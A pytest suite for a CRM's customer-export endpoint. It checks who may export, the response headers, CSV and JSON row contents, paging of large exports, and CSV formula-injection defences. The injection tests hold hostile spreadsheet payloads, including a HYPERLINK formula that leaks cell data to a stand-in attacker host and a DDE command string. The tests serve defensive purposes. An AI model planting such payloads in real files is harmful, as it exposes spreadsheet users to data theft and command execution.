"""GET /export on the real emulators: who may take which customers away, and in what shape.

Customers are written with the server client (the way intake and the admin API leave
them), users are real Auth emulator accounts with role claims, and every export goes
through the function as the framework serves it. No mocks.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest

from hearth.customers.export import COLUMNS
from hearth.rules import emails
from tests.outage import store_down

pytestmark = pytest.mark.usefixtures("default_settings")

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
T0 = datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
SITE = "http://127.0.0.1:5000"  # an allowed origin by default

# The columns a person opening the file in a spreadsheet looks for by name; the full list
# and its order are the product's (hearth.customers.export.COLUMNS), and the header must be exactly
# that list. Every column's value is checked by name in the row tests below.
COLUMNS_PEOPLE_LOOK_FOR = (
    "email",
    "name",
    "company",
    "mobile",
    "stage",
    "marketing_consent",
    "pending",
    "paid",
    "currency",
)


@pytest.fixture
def exporter(db, users, function_client):
    return function_client("export")


def customer(email: str, **changes: Any) -> dict[str, Any]:
    """A stored customer with every field intake writes, some of them changed."""
    doc: dict[str, Any] = {
        "email": email,
        "name": None,
        "company": None,
        "mobile": None,
        "mobileValid": None,
        "stage": "new",
        "sources": ["direct"],
        "firstSource": "direct",
        "lastSource": "direct",
        "forms": ["contact"],
        "consent": {"marketing": None, "at": None, "submissionId": None},
        "balances": {"pending": 0, "paid": 0, "currency": "EUR"},
        "ownerUid": None,
        "segment": None,
        "archived": False,
        "custom": {},
        "createdAt": T0,
        "updatedAt": T0,
        "lastContactAt": T0,
        "search": ["secret-token", email],
    }
    doc.update(changes)
    return doc


def seed(db: Any, *docs: dict[str, Any]) -> None:
    """Write customers directly, 500 to a commit (Firestore's limit), not through intake."""
    for start in range(0, len(docs), 500):
        batch = db.batch()
        for doc in docs[start : start + 500]:
            ref = db.collection("customers").document(emails.customer_key(doc["email"]))
            batch.set(ref, doc)
        batch.commit()


def export(exporter: Any, headers: dict[str, str], fmt: str | None = "csv") -> Any:
    return exporter.get("/", query_string={"format": fmt} if fmt else {}, headers=headers)


def csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.get_data().decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_cells(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8"), newline="")))


def json_body(response: Any) -> dict[str, Any]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "application/json"
    return json.loads(response.get_data())


def refusal(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "application/json"
    return response.get_json()


def by_email(rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {row["email"]: row for row in rows}


# --- who may export what ------------------------------------------------------------------------


def test_the_owner_exports_every_customer_archived_ones_too(exporter, db, users) -> None:
    seed(
        db,
        customer("ana@example.org"),
        customer("ben@example.org", ownerUid="rep-a"),
        customer("cleo@example.org", ownerUid="rep-b", archived=True),
    )

    rows = by_email(csv_rows(export(exporter, users.headers("owner"))))

    assert sorted(rows) == ["ana@example.org", "ben@example.org", "cleo@example.org"]
    assert {email: row["archived"] for email, row in rows.items()} == {
        "ana@example.org": "false",
        "ben@example.org": "false",
        "cleo@example.org": "true",
    }
    assert {email: row["owner_uid"] for email, row in rows.items()} == {
        "ana@example.org": "",
        "ben@example.org": "rep-a",
        "cleo@example.org": "rep-b",
    }


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_rep_exports_only_the_customers_they_own(exporter, db, users, fmt: str) -> None:
    seed(
        db,
        customer("ana@example.org"),
        customer("ben@example.org", ownerUid="rep-a"),
        customer("bea@example.org", ownerUid="rep-a", archived=True),
        customer("cleo@example.org", ownerUid="rep-b"),
    )

    response = export(exporter, users.headers("rep", uid="rep-a"), fmt)

    rows = csv_rows(response) if fmt == "csv" else json_body(response)["customers"]
    assert sorted(row["email"] for row in rows) == ["bea@example.org", "ben@example.org"]


@pytest.mark.parametrize(
    ("role", "extra"),
    [("manager", {}), ("partner", {"segments": ["weddings"]}), (None, {})],
    ids=["manager", "partner", "no-role"],
)
def test_anyone_else_signed_in_may_not_export(exporter, db, users, role, extra) -> None:
    seed(db, customer("ana@example.org", segment="weddings"))

    body = refusal(export(exporter, users.headers(role, **extra)), 403)

    assert body["error"] == "forbidden"
    assert "ana@example.org" not in json.dumps(body)


def test_an_export_needs_a_valid_sign_in(exporter, db, users) -> None:
    seed(db, customer("ana@example.org"))

    missing = export(exporter, {})
    forged = export(exporter, {"Authorization": "Bearer not.a.token"})

    for response in (missing, forged):
        assert refusal(response, 401)["error"] == "unauthenticated"
        assert response.headers["WWW-Authenticate"].startswith("Bearer")


# --- the request and the answer's headers -------------------------------------------------------


def test_the_download_is_a_dated_attachment_that_is_never_cached(exporter, db, users) -> None:
    seed(db, customer("ana@example.org"))
    owner = users.headers("owner")
    days = {f"{datetime.now(UTC):%Y-%m-%d}"}

    as_csv = export(exporter, owner, None)  # csv unless asked otherwise
    as_json = export(exporter, owner, "JSON")
    days.add(f"{datetime.now(UTC):%Y-%m-%d}")

    assert len(csv_rows(as_csv)) == 1
    assert json_body(as_json)["customers"][0]["email"] == "ana@example.org"
    for response, extension in ((as_csv, "csv"), (as_json, "json")):
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["Content-Disposition"] in {
            f'attachment; filename="hearth-customers-{day}.{extension}"' for day in days
        }


def test_an_unknown_format_is_refused_by_name(exporter, users) -> None:
    body = refusal(export(exporter, users.headers("owner"), "xlsx"), 400)

    assert "'xlsx'" in body["fields"]["format"]


@pytest.mark.parametrize("method", ["post", "put", "delete"])
def test_only_get_exports(exporter, users, method: str) -> None:
    response = getattr(exporter, method)("/", headers=users.headers("owner"))

    assert refusal(response, 405)["error"] == "method_not_allowed"
    assert response.headers["Allow"] == "GET, OPTIONS"


def test_the_admin_page_may_call_it_and_read_the_file_name(exporter, db, users) -> None:
    seed(db, customer("ana@example.org"))

    preflight = exporter.options(
        "/",
        headers={
            "Origin": SITE,
            "Access-Control-Request-Method": "GET",
            "Access-Control-Request-Headers": "authorization",
        },
    )
    download = exporter.get("/", headers={"Origin": SITE, **users.headers("owner")})
    elsewhere = exporter.get(
        "/", headers={"Origin": "https://evil.example", **users.headers("owner")}
    )

    assert preflight.status_code == 204
    assert "Authorization" in preflight.headers["Access-Control-Allow-Headers"]
    assert download.headers["Access-Control-Allow-Origin"] == SITE
    assert "Content-Disposition" in download.headers["Access-Control-Expose-Headers"]
    assert len(csv_rows(download)) == 1
    assert refusal(elsewhere, 403)["error"] == "origin_not_allowed"


def test_nothing_to_export_is_a_header_row_or_an_empty_list(exporter, db, users) -> None:
    seed(db, customer("cleo@example.org", ownerUid="rep-b"))
    rep = users.headers("rep", uid="rep-a")

    [header] = csv_cells(export(exporter, rep))
    assert header == list(COLUMNS)
    assert header[0] == "email"
    assert set(COLUMNS_PEOPLE_LOOK_FOR) <= set(header)
    assert json_body(export(exporter, rep, "json"))["customers"] == []


def test_a_store_outage_is_a_503_to_retry_not_an_empty_file(
    exporter, db, users, monkeypatch
) -> None:
    seed(db, customer("ana@example.org"))
    owner = users.headers("owner")

    with store_down(monkeypatch):
        response = export(exporter, owner)

    assert refusal(response, 503)["error"] == "store_unavailable"
    assert int(response.headers["Retry-After"]) > 0
    assert len(csv_rows(export(exporter, owner))) == 1


# --- what a row says ----------------------------------------------------------------------------


TRICKY = customer(
    "gorg@example.org",
    name="Ġorġ Ħabib-Borg",
    company='Studio "Lumen", Ltd.',
    mobile="7912 3456",
    mobileValid=True,
    stage="proposal",
    sources=["instagram", "google"],
    firstSource="instagram",
    lastSource="google",
    consent={"marketing": True, "at": T0, "submissionId": "sub-1"},
    balances={"pending": 150050, "paid": 2500, "currency": "EUR"},
    ownerUid="rep-a",
    segment="weddings",
    custom={
        "note": 'First line, with a comma\nsecond "quoted" line\r\nthird ☕ 咖啡',
        "guests": 120,
        "vegan": False,
        "dates": ["2025-06-14", "2025-06-15"],
    },
    createdAt=datetime(2024, 3, 2, 9, 30, tzinfo=UTC),
    updatedAt=datetime(2024, 5, 1, 10, 0, 0, 250000, tzinfo=UTC),
    lastContactAt=datetime(2024, 4, 30, 23, 15, tzinfo=timezone(timedelta(hours=2))),
)


def test_a_csv_row_reads_back_as_the_values_stored(exporter, db, users) -> None:
    seed(db, TRICKY)

    [row] = csv_rows(export(exporter, users.headers("owner")))

    assert row == {
        "email": "gorg@example.org",
        "name": "Ġorġ Ħabib-Borg",
        "company": 'Studio "Lumen", Ltd.',
        "mobile": "7912 3456",
        "mobile_valid": "true",
        "stage": "proposal",
        "first_source": "instagram",
        "last_source": "google",
        "sources": "instagram; google",
        "marketing_consent": "true",
        "consent_at": "2024-05-01T10:00:00Z",
        "pending": "1500.50",
        "paid": "25.00",
        "currency": "EUR",
        "owner_uid": "rep-a",
        "segment": "weddings",
        "archived": "false",
        "created_at": "2024-03-02T09:30:00Z",
        "updated_at": "2024-05-01T10:00:00.250000Z",
        "last_contact_at": "2024-04-30T21:15:00Z",
        "custom.dates": "2025-06-14; 2025-06-15",
        "custom.guests": "120",
        "custom.note": 'First line, with a comma\nsecond "quoted" line\r\nthird ☕ 咖啡',
        "custom.vegan": "false",
    }


def test_the_file_is_utf8_without_a_byte_order_mark(exporter, db, users) -> None:
    seed(db, TRICKY)

    raw = export(exporter, users.headers("owner")).get_data()

    assert raw.startswith(b"email,name,")
    assert "Ġorġ Ħabib-Borg".encode() in raw


def test_custom_fields_become_columns_in_key_order(exporter, db, users) -> None:
    seed(
        db,
        customer("ana@example.org", custom={"wedding_date": "2025-06-14", "budget": 1200}),
        customer("ben@example.org", custom={"venue": "Mdina", "budget": 900}),
        customer("cleo@example.org"),
    )

    response = export(exporter, users.headers("owner"))
    rows = by_email(csv_rows(response))

    assert csv_cells(response)[0] == [
        *COLUMNS,
        "custom.budget",
        "custom.venue",
        "custom.wedding_date",
    ]
    custom = {
        email: (row["custom.budget"], row["custom.venue"], row["custom.wedding_date"])
        for email, row in rows.items()
    }
    assert custom == {
        "ana@example.org": ("1200", "", "2025-06-14"),
        "ben@example.org": ("900", "Mdina", ""),
        "cleo@example.org": ("", "", ""),
    }


def test_balances_are_decimal_amounts_in_each_currencys_decimals(exporter, db, users) -> None:
    seed(
        db,
        customer("eur@example.org", balances={"pending": 150050, "paid": 5, "currency": "EUR"}),
        customer("jpy@example.org", balances={"pending": 1500, "paid": 0, "currency": "JPY"}),
        customer("bhd@example.org", balances={"pending": 1500, "paid": 1, "currency": "BHD"}),
        customer("none@example.org", balances={"pending": 0, "paid": 0, "currency": None}),
    )

    rows = by_email(csv_rows(export(exporter, users.headers("owner"))))

    amounts = {email: (row["pending"], row["paid"], row["currency"]) for email, row in rows.items()}
    assert amounts == {
        "eur@example.org": ("1500.50", "0.05", "EUR"),
        "jpy@example.org": ("1500", "0", "JPY"),
        "bhd@example.org": ("1.500", "0.001", "BHD"),
        "none@example.org": ("0.00", "0.00", ""),
    }


def test_search_tokens_never_leave_the_store(exporter, db, users) -> None:
    seed(db, TRICKY)
    owner = users.headers("owner")

    as_csv = export(exporter, owner).get_data(as_text=True)
    as_json = export(exporter, owner, "json").get_data(as_text=True)

    for body in (as_csv, as_json):
        assert "secret-token" not in body
        assert "search" not in body


# --- formula injection --------------------------------------------------------------------------

INJECTIONS = [
    "=SUM(A1)",
    "+1",
    "-1",
    "@cmd",
    "\t=x",
    "\r=x",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your invoice")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_a_formula_in_any_text_arrives_as_text(exporter, db, users, payload: str) -> None:
    seed(
        db,
        customer(
            "eve@example.org",
            name=payload,
            company=payload,
            stage=payload,
            segment=payload,
            sources=[payload, "direct"],
            custom={"=x": payload, "note": payload},
        ),
    )

    response = export(exporter, users.headers("owner"))
    [row] = csv_rows(response)

    neutralised = "'" + payload
    assert row["name"] == neutralised
    assert row["company"] == neutralised
    assert row["stage"] == neutralised
    assert row["segment"] == neutralised
    assert row["sources"] == neutralised + "; direct"
    assert row["custom.note"] == neutralised
    assert row["custom.=x"] == neutralised  # the custom key "=x" is safe behind "custom."
    for cell in (cell for line in csv_cells(response) for cell in line):
        assert not cell.startswith(TRIGGERS), cell
        assert not cell.lstrip().startswith(TRIGGERS), cell


def test_ordinary_values_stay_as_they_are(exporter, db, users) -> None:
    seed(
        db,
        customer(
            "ana@example.org",
            name="Ana Borg-Smith",
            company="A=B Ltd",
            mobile="+35679123456",
            custom={"discount": -5, "ratio": -0.25, "dash": "-", "formula": "1+1"},
        ),
    )

    [row] = csv_rows(export(exporter, users.headers("owner")))

    assert row["name"] == "Ana Borg-Smith"  # a hyphen inside text is just a hyphen
    assert row["company"] == "A=B Ltd"
    assert row["custom.formula"] == "1+1"
    # Stored numbers are written as numerals, which a spreadsheet reads as that number.
    assert (row["custom.discount"], row["custom.ratio"]) == ("-5", "-0.25")
    # Text that starts with a trigger is neutralised even when harmless; a mobile in
    # international form is one such (the issue: any cell beginning with + ...).
    assert row["mobile"] == "'+35679123456"
    assert row["custom.dash"] == "'-"


# --- JSON ---------------------------------------------------------------------------------------


def test_a_json_export_holds_the_same_fields_with_their_own_types(exporter, db, users) -> None:
    seed(db, {**TRICKY, "name": "=SUM(A1)", "mobile": "+35679123456"})

    body = json_body(export(exporter, users.headers("owner"), "json"))

    exported_at = datetime.fromisoformat(body["exported_at"])
    assert abs(datetime.now(UTC) - exported_at) < timedelta(minutes=1)
    assert body["customers"] == [
        {
            "email": "gorg@example.org",
            "name": "=SUM(A1)",  # JSON is not a spreadsheet: nothing is neutralised
            "company": 'Studio "Lumen", Ltd.',
            "mobile": "+35679123456",
            "mobile_valid": True,
            "stage": "proposal",
            "first_source": "instagram",
            "last_source": "google",
            "sources": ["instagram", "google"],
            "marketing_consent": True,
            "consent_at": "2024-05-01T10:00:00Z",
            "pending": "1500.50",
            "pending_minor": 150050,
            "paid": "25.00",
            "paid_minor": 2500,
            "currency": "EUR",
            "owner_uid": "rep-a",
            "segment": "weddings",
            "archived": False,
            "created_at": "2024-03-02T09:30:00Z",
            "updated_at": "2024-05-01T10:00:00.250000Z",
            "last_contact_at": "2024-04-30T21:15:00Z",
            "custom": {
                "dates": ["2025-06-14", "2025-06-15"],
                "guests": 120,
                "note": 'First line, with a comma\nsecond "quoted" line\r\nthird ☕ 咖啡',
                "vegan": False,
            },
        }
    ]


# --- large exports ------------------------------------------------------------------------------

MANY = 1205  # two full pages of 500 and a part page


def many_customers() -> list[dict[str, Any]]:
    return [
        customer(
            f"person{i:05d}@example.org",
            name=f"Person {i}",
            company="Studio Lumen",
            mobile="7912 3456",
            ownerUid="rep-a" if i % 2 == 0 else None,
            custom={"index": i, **({"late_key": "x"} if i == MANY - 1 else {})},
        )
        for i in range(MANY)
    ]


def test_a_large_export_pages_through_every_customer_once(exporter, db, users) -> None:
    seed(db, *many_customers())
    expected = {f"person{i:05d}@example.org" for i in range(MANY)}

    owner_rows = csv_rows(export(exporter, users.headers("owner")))
    owner_json = json_body(export(exporter, users.headers("owner"), "json"))["customers"]
    rep_rows = csv_rows(export(exporter, users.headers("rep", uid="rep-a")))

    for rows in (owner_rows, owner_json):
        emails_seen = [row["email"] for row in rows]
        assert len(emails_seen) == MANY
        assert set(emails_seen) == expected
    # The one custom key that only the last customer has still gets its column.
    assert [row["custom.late_key"] for row in owner_rows].count("x") == 1
    rep_emails = [row["email"] for row in rep_rows]
    assert len(rep_emails) == len(set(rep_emails)) == (MANY + 1) // 2
    assert {row["owner_uid"] for row in rep_rows} == {"rep-a"}


def test_a_large_export_streams_one_instant_of_the_store(exporter, db, users) -> None:
    """Sent in pieces while it is read; a change made mid-download is not half in the file."""
    seed(db, *many_customers())

    response = exporter.get("/", headers=users.headers("owner"), buffered=False)
    assert response.status_code == 200
    assert "Content-Length" not in response.headers
    pieces = iter(response.response)
    first = next(pieces)
    # While the rest is still to come: a new customer with a new custom field, and a change
    # to a customer the export has not reached yet.
    seed(
        db,
        customer("zz-new@example.org", custom={"brand_new": "yes"}),
        customer(f"person{MANY - 2:05d}@example.org", name="Renamed Meanwhile"),
    )
    rest = list(pieces)
    response.close()

    assert rest, "the body came in a single piece"
    text = (first + b"".join(rest)).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == MANY
    assert "zz-new@example.org" not in text
    assert "custom.brand_new" not in text
    assert by_email(rows)[f"person{MANY - 2:05d}@example.org"]["name"] == f"Person {MANY - 2}"
